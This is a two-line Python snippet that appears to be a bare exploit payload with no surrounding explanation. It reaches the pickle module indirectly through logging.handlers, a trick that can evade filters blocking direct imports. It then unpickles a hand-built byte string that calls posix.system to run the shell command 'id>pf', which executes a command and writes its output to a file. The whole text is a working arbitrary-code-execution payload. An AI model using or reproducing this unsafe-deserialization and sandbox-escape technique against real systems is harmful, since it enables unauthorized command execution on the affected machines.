import logging.handlers as h
h.pickle.loads(b"cposix\nsystem\n(S'id>pf'\ntR.")
